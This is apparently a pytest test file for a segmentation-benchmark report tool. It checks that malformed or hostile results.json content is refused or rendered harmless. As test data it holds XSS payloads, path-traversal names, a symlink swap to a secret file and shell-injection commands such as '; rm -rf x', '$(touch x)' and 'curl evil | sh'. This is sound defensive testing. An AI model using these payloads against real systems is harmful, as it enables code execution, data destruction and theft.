"""results.json of unknown origin: what is not of its type is refused by name, and what is stays text in the report."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shlex
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from nnunetv2_lightm.benchmark.report.document import write_report
from nnunetv2_lightm.benchmark.results import ResultsError, load_results, write_results
from nnunetv2_lightm.benchmark.sharing import command_again, shared_words, without_home
from nnunetv2_lightm.cli import main as cli

from ..make_results import TRAINERS, make_results, make_run, with_images
from .test_report import Page

PUBLISHED = Path(__file__).resolve().parents[3] / "benchmarks" / "accuracy" / "results"
SCRIPT = "<script>alert(1)</script>"


def deep(levels: int) -> dict:
    content = {}
    for _ in range(levels):
        content = {"a": content}
    return content


def set_in(*keys):
    """A change of a content: the value that follows the keys is put there."""
    *path, value = keys

    def change(content):
        for key in path[:-1]:
            content = content[key]
        content[path[-1]] = value

    return change


def in_scores(content):
    content["runs"][0]["evaluation"]["cases"]["case_0"]["left_lung"][SCRIPT] = 0.5


def rename_case(name):
    def change(content):
        cases = content["runs"][0]["evaluation"]["cases"]
        cases[name] = cases.pop("case_0")

    return change


WRONG = {
    "patch_size of texts": (set_in("patch_size", [SCRIPT, "![x](/some/local/file)"]), r"patch_size\[0\] is '<script>"),
    "patch_size of one axis": (set_in("patch_size", [8]), "patch_size is"),
    "patch_size of fractions": (set_in("patch_size", [8.5, 8]), r"patch_size\[0\] is 8.5"),
    "patch_size of true": (set_in("patch_size", [True, 8]), r"patch_size\[0\] is True"),
    "spacing of NaN": (set_in("spacing_mm", [float("nan"), 1.0]), r"spacing_mm\[0\] is nan"),
    "spacing of three": (set_in("spacing_mm", [1.0, 1.0, 1.0]), "spacing_mm is .*one number for each axis"),
    "spacing below 0": (set_in("spacing_mm", [-1.0, 1.0]), r"spacing_mm\[0\] is -1.0"),
    "batch_size": (set_in("batch_size", "4"), "batch_size is '4'"),
    "title": (set_in("title", ["a"]), r"title is \['a'\]"),
    "a long title": (set_in("title", "a" * 10**5), "title is"),
    "dataset with a path": (set_in("dataset", "../../etc"), "dataset is '../../etc'"),
    "file_ending with a path": (set_in("file_ending", "/../x"), "file_ending is"),
    "labels": (set_in("labels", {"left_lung": "1"}), "labels.left_lung is '1'"),
    "a label below 0": (set_in("labels", {"left_lung": [1, -1]}), r"labels.left_lung is \[1, -1\]"),
    "budget": (set_in("budget", SCRIPT), "budget is '<script>"),
    "scored_on": (set_in("scored_on", SCRIPT), "scored_on is '<script>"),
    "machine": (set_in("machine", {"a": ["b"]}), "machine is .*a: expected a text or a finite number"),
    "machine, infinity": (set_in("machine", {"a": float("inf")}), "machine is .*finite number"),
    "machine, deep": (set_in("machine", deep(10)), "machine is .*too deep"),
    "calibration": (
        set_in("calibration", {"x": {"train_seconds": "1", "validation_seconds": 1}}),
        "train_seconds is '1'",
    ),
    "calibration, infinite": (
        set_in("calibration", {"x": {"train_seconds": float("inf"), "validation_seconds": 1}}),
        "x.train_seconds is inf",
    ),
    "complexity": (set_in("complexity", {"x": {"parameters": -1}}), "complexity.x.parameters is -1"),
    "complexity of no trainer": (set_in("complexity", {SCRIPT: {}}), "complexity.*<script>.*Python class"),
    "fold": (set_in("runs", 0, "fold", SCRIPT), "run 0: fold is '<script>"),
    "seed": (set_in("runs", 0, "seed", -1), "run 0: seed is -1"),
    "trainer": (set_in("runs", 1, "trainer", f"x{SCRIPT}"), "run 1: trainer is .*Python class"),
    "complete": (set_in("runs", 0, "complete", "yes"), "run 0: complete is 'yes'"),
    "iterations": (set_in("runs", 0, "iterations_per_epoch", 0), "iterations_per_epoch is 0"),
    "loss of text": (
        set_in("runs", 0, "epochs", 2, "train_loss", SCRIPT),
        r"run 0: epochs\[2\].train_loss is '<script>",
    ),
    "loss of infinity": (set_in("runs", 0, "epochs", 2, "val_loss", float("inf")), r"epochs\[2\].val_loss is inf"),
    "pseudo_dice": (set_in("runs", 0, "epochs", 0, "pseudo_dice", [0.5, 2.0]), r"pseudo_dice\[1\] is 2.0"),
    "images": (set_in("runs", 0, "images", 5), "run 0: images is 5"),
    "images, NUL": (set_in("runs", 0, "images", "a\0b"), "run 0: images is"),
    "failure": (set_in("runs", 0, "failure", {}), "run 0: failure is {}"),
    "metric": (in_scores, r"run 0: evaluation: .*case_0.*<script>"),
    "score of text": (
        set_in("runs", 0, "evaluation", "cases", "case_0", "left_lung", "DSC", SCRIPT),
        "run 0: evaluation: .*case_0.left_lung.DSC is '<script>",
    ),
    "score above 1": (
        set_in("runs", 0, "evaluation", "cases", "case_0", "left_lung", "DSC", 1.5),
        "run 0: evaluation: .*DSC of 1.5",
    ),
    "score of infinity": (
        set_in("runs", 0, "evaluation", "cases", "case_0", "left_lung", "IoU", float("inf")),
        "case_0.left_lung.IoU is inf",
    ),
    "case that is a path": (rename_case("../../secret"), "evaluation: .*../../secret"),
    "case that is a folder": (rename_case(".."), "evaluation: .*name that can be one of a file"),
    "classes of the evaluation": (set_in("labels", {"other": 1}), "run 0: evaluation.classes are .*the labels name"),
    "runs": (set_in("runs", {}), "runs is {}"),
    "a run": (set_in("runs", 1, "text"), "run 1: 'text'"),
}


@pytest.mark.parametrize(("change", "complaint"), WRONG.values(), ids=WRONG)
def test_what_is_not_of_its_type_is_refused_by_name(tmp_path, change, complaint, capsys):
    path = tmp_path / "results.json"
    write_results(make_results(), path)
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))
    with pytest.raises(ResultsError, match=complaint) as raised:
        load_results(path)
    assert str(path) in str(raised.value) and len(str(raised.value)) < 1000
    assert cli(["benchmark-report", str(path), "-o", str(tmp_path / "report")]) == 1
    assert not (tmp_path / "report").exists()
    assert str(path) in capsys.readouterr().err


@pytest.mark.parametrize(
    "text",
    ["[" * 10**5 + "]" * 10**5, '{"format": ' + "9" * 10**4 + "}", "null", '"x"', "", "\x00", '{"format": true}'],
)
def test_other_json_is_refused(tmp_path, text):
    path = tmp_path / "results.json"
    path.write_text(text)
    with pytest.raises(ResultsError, match=r"results\.json"):
        load_results(path)


def test_a_file_of_gigabytes_is_not_read(tmp_path):
    path = tmp_path / "results.json"
    with path.open("wb") as file:
        file.truncate(3 * 2**30)
    with pytest.raises(ResultsError, match="3,221,225,472 bytes"):
        load_results(path)


@pytest.mark.parametrize(
    "file", sorted(set(PUBLISHED.glob("*.json")) - {PUBLISHED / "search.json"}), ids=lambda path: path.stem
)
def test_published_results_are_read(file):
    assert load_results(file).runs


HOSTILE = (
    f'"><img src=x onerror=alert(1)>{SCRIPT} ![x](secret.png) [l](javascript:alert(1)) \x1b[31m | `a` $b$ <http://e.x>'
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Page and Markdown of a report whose every text is hostile, and the bytes of a picture that lies about."""
    folder = tmp_path_factory.mktemp("hostile")
    results = make_results(TRAINERS[:2], classes=("left_lung", HOSTILE), title=HOSTILE, commands=((HOSTILE,),))
    torn = replace(make_run("nnUNetTrainerUNETR", 0.9, complete=False), failure=HOSTILE)
    results = replace(
        results,
        machine={HOSTILE: {HOSTILE: HOSTILE}},
        dataset="Dataset802_<img src=x onerror=alert(1)>",
        plans="![x](secret.png)",
        runs=(*results.runs, torn),
        not_pictured=HOSTILE,
    )
    write_results(results, folder / "results.json")
    (folder / "report").mkdir()
    secret = folder / "report" / "secret.png"
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (40, 40), np.uint8)).save(secret)
    (folder / "secret.png").write_bytes(secret.read_bytes())
    assert (
        cli(["benchmark-report", str(folder / "results.json"), "-o", str(folder / "report"), "--title", HOSTILE]) == 0
    )
    return folder / "report", secret.read_bytes()


def test_hostile_text_stays_text_on_the_page(hostile):
    folder, _ = hostile
    text = (folder / "report.html").read_text()
    page = Page(text)
    assert not page.tags & {"script", "iframe", "object", "link", "form", "input"}
    assert page.links == [] and page.ids == ["comparison-1"]
    assert "onerror=alert(1)" not in re.sub(r"&gt;|&lt;|&quot;", "", "".join(re.findall(r"<[^>]*>", text)))
    assert "\x1b" not in text


def test_only_pictures_of_the_report_are_on_the_page(hostile):
    folder, secret = hostile
    page = Page((folder / "report.html").read_text())
    made = {file.read_bytes() for file in (folder / "figures").iterdir()}
    shown = [base64.b64decode(image["src"].removeprefix("data:image/png;base64,")) for image in page.images]
    assert len(shown) == 3 and set(shown) <= made and secret not in shown


def test_the_page_forbids_scripts_and_the_network(hostile):
    folder, _ = hostile
    text = (folder / "report.html").read_text()
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe" not in policy and "script-src" not in policy
    assert text.index("Content-Security-Policy") < text.index("<style>")
    style = re.search(r"<style>(.*?)</style>", text, re.DOTALL)[1]
    assert base64.b64encode(hashlib.sha256(style.encode()).digest()).decode() in policy
    assert " style=" not in text, "the policy would not let it act"


def test_a_command_that_is_none_of_ours_is_not_to_be_pasted(hostile):
    folder, _ = hostile
    text = (folder / "report.md").read_text()
    assert "To repeat the comparison:" not in text and "a command that is not `nnUNetv2_lightm benchmark`" in text


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize(
    "command",
    [
        "nnUNetv2_lightm benchmark -d 4; rm -rf x",
        "nnUNetv2_lightm benchmark -d $(touch x) `touch y`",
        "nnUNetv2_lightm benchmark -o 'a b' --title 'it'\\''s'",
        "nnUNetv2_lightm benchmark -d 4 | sh > x & y",
        "python -m benchmarks.accuracy.study FOLDER --only chest_seconds",
    ],
)
def test_each_word_of_a_command_is_quoted_anew(command, tmp_path):
    again = command_again(shlex.split(command))
    assert shlex.split(again) == shlex.split(command)
    print_words = "() { printf '%s\\n' \"$@\"; }"
    script = f"nnUNetv2_lightm {print_words}\npython {print_words}\n{again}"
    done = subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert done.stdout.splitlines() == shlex.split(command)[1:]
    assert list(tmp_path.iterdir()) == [] and done.stderr == ""


@pytest.mark.parametrize(
    "words",
    [
        ("curl", "evil", "|", "sh"),
        (),
        ("nnUNetv2_lightm 'benchmark",),
        ("python", "-c", "x"),
        ("python", "benchmarks/study.py"),
        ("python", "-m", "x"),
        ("python", "-m", "benchmarks/../x.py"),
    ],
)
def test_another_command_is_none(words):
    assert command_again(words) is None


def test_home_folders_are_not_told(tmp_path):
    home = str(Path.home())
    assert without_home(f"{home}/x, '/home/alice/y' and /Users/bob: /root") == "~/x, '~/y' and ~: ~"
    assert without_home("/data/home/alice /homework/x C:\\Users\\carol\\x") == "/data/home/alice /homework/x ~\\x"
    words = ("nnUNetv2_lightm", "benchmark", "-o", "/home/alice/my study", "--calibration-of=/home/alice/old", "--x=a")
    assert command_again(words) == "nnUNetv2_lightm benchmark -o ~/'my study' --calibration-of ~/old --x=a"
    assert command_again(shared_words(words)) == command_again(words)

    run = make_run("nnUNetTrainer", 0.9)
    gone = {name: Path(f"/home/alice/data/{name}") for name in ("images", "references", "predictions")}
    torn = replace(make_run("nnUNetTrainerUNETR", 0.9, complete=False), failure="/home/alice/venv/torch.py: no memory")
    results = make_results(runs=(replace(run, **gone), torn), commands=(words,))
    write_report([results], tmp_path / "report", "of /home/alice/x")
    for file in ("report.md", "report.html"):
        text = (tmp_path / "report" / file).read_text()
        assert "alice" not in text and "~/venv/torch.py" in text and ".../data/images" in text


def test_a_link_is_no_picture_of_an_earlier_report(tmp_path):
    results = with_images(make_results(TRAINERS[:2]), tmp_path / "data")
    gone = replace(results, runs=tuple(replace(run, predictions=None, images=None) for run in results.runs))
    write_report([results], tmp_path / "report", "Title")
    secret = tmp_path / "data" / "imagesTs" / "case_0_0000.png"
    worst, median, best = (
        tmp_path / "report" / f"figures/comparison1_overlay_{r}.png" for r in ("worst", "median", "best")
    )
    worst.unlink()
    worst.symlink_to(secret)
    median.write_bytes(b"no picture, but a secret")
    write_report([gone], tmp_path / "report", "Title")
    text = (tmp_path / "report" / "report.md").read_text()
    assert [f"({picture.relative_to(tmp_path / 'report')})" in text for picture in (worst, median, best)] == [
        False,
        False,
        True,
    ]


def test_the_folders_of_pictures_are_said_and_can_be_left_out(tmp_path, capsys):
    results = with_images(make_results(TRAINERS[:2]), tmp_path / "data")
    write_results(results, tmp_path / "results.json")
    arguments = ["benchmark-report", str(tmp_path / "results.json"), "-o", str(tmp_path / "report")]
    assert cli(arguments) == 0
    assert f"shows images of {tmp_path / 'data' / 'imagesTs'}; --no-pictures" in capsys.readouterr().err
    assert cli([*arguments[:-1], str(tmp_path / "other"), "--no-pictures"]) == 0
    assert "shows images" not in capsys.readouterr().err
    assert not list((tmp_path / "other" / "figures").glob("*overlay*"))
